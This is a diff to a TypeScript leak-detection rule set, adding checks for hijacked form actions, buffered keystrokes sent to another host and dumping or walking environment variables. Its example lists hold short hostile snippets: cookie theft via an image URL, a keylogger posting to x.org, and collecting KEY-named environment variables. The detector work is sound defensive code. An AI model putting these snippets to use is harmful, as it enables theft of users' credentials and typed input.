@@ -17,6 +17,12 @@ function isTelling(value: Value): boolean {
   )
 }
 
+/** The whole environment, alone or in a text. */
+function isEnvironment(value: Value): boolean {
+  if (value.kind === 'joined') return value.parts.some(part => typeof part !== 'string' && isEnvironment(part))
+  return value.kind === 'thing' && /^(os\.environb?|process\.env|os\.environ\.(copy|items)\(\))$/.test(value.name)
+}
+
 /** Rules about what leaves the machine or is shown. */
 export const leakRules: readonly Rule[] = [
   {
@@ -107,16 +113,19 @@ export const leakRules: readonly Rule[] = [
     match: {
       on: 'assignment',
       about: target => /(^|\.)(src|href|action)$/.test(target),
-      when: ({ value, how }) =>
-        how === 'assign' &&
-        value.kind === 'joined' &&
-        says(value, /^(https?:)?\/\//) &&
-        (comesFrom(value, origin.secret) ||
-          value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/))),
+      when: ({ target, value, how }) =>
+        // A form of this page that is made to send what people type to another site.
+        (how === 'assign' && /\.action$/.test(target) && says(value, /^(https?:)?\/\//)) ||
+        (how === 'assign' &&
+          value.kind === 'joined' &&
+          says(value, /^(https?:)?\/\//) &&
+          (comesFrom(value, origin.secret) ||
+            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/)))),
     },
     examples: {
       bad: [
         "new Image().src = 'https://x.org/?' + document.cookie",
+        "document.forms[0].action = 'https://x.org/login'",
         "addEventListener('keydown', e => { image.src = 'https://x.org/?' + e.key })",
       ],
       good: ["image.src = 'https://x.org/' + name + '.png'", "link.href = '/items/' + e.target.value"],
@@ -139,11 +148,17 @@ export const leakRules: readonly Rule[] = [
           value =>
             value?.kind === 'joined' &&
             value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|target\.value|value)$/)),
-        ) && /type=["']?password|keydown|keypress|keyup/.test(program.source),
+        )
+          ? /type=["']?password|keydown|keypress|keyup/.test(program.source)
+          : // Keys that are kept first and sent to another host later.
+            /(keydown|keypress|keyup)\b[^\n]*\.(push|key\b|which|keyCode)/.test(program.source) &&
+            says(target, /^(https?:)?\/\//) &&
+            (target.kind === 'joined' || payload !== undefined || says(target, /\?/)),
     },
     examples: {
       bad: [
         "document.querySelector('input[type=password]').onchange = e => fetch('https://x.org/?p=' + e.target.value)",
+        "const all = []; document.onkeypress = e => all.push(e.key); setInterval(() => fetch('https://x.org/?' + all.join('')), 9)",
       ],
       good: ["search.onchange = e => fetch('/search?q=' + e.target.value)"],
     },
@@ -217,6 +232,7 @@ export const leakRules: readonly Rule[] = [
         'os.environ.values',
         'console.log',
         'JSON.stringify',
+        'Deno.env.toObject',
         'Object.entries',
         'Object.keys',
         'Object.values',
@@ -227,19 +243,35 @@ export const leakRules: readonly Rule[] = [
       ],
       when: call => {
         if (call.name === 'os.environ.copy') return { severity: 'low' }
-        if (call.name.startsWith('os.environ.')) return true
-        return call.args.some(
-          value =>
-            value.kind === 'thing' && /^(os\.environb?|process\.env|os\.environ\.(copy|items)\(\))$/.test(value.name),
-        )
+        if (call.name.startsWith('os.environ.') || call.name === 'Deno.env.toObject') return true
+        return call.args.some(isEnvironment)
       },
     },
     examples: {
       bad: [
         'import os\nprint(os.environ)',
+        "import os\nprint(f'all: {os.environ}')",
         { language: 'javascript', code: 'console.log(JSON.stringify(process.env))' },
       ],
       good: ["import os\nprint(os.environ.get('HOME'))"],
+    },
+  },
+  {
+    id: 'network/environment-walked',
+    languages: code,
+    type: 'secret',
+    severity: 'medium',
+    cwe: 'CWE-526',
+    description: 'Looks at all variables of the environment, where credentials are passed to programs.',
+    recommendation: 'Read the one variable that is needed.',
+    implies: ['secrets'],
+    match: { on: 'mark', kinds: ['walked-environment'] },
+    examples: {
+      bad: [
+        'import os\nfor name in os.environ:\n    print(name)',
+        { language: 'javascript', code: 'for (const k in process.env) if (/KEY/.test(k)) found.push(process.env[k])' },
+      ],
+      good: ["import os\nfor name in ['HOME']:\n    print(os.environ[name])"],
     },
   },
   {
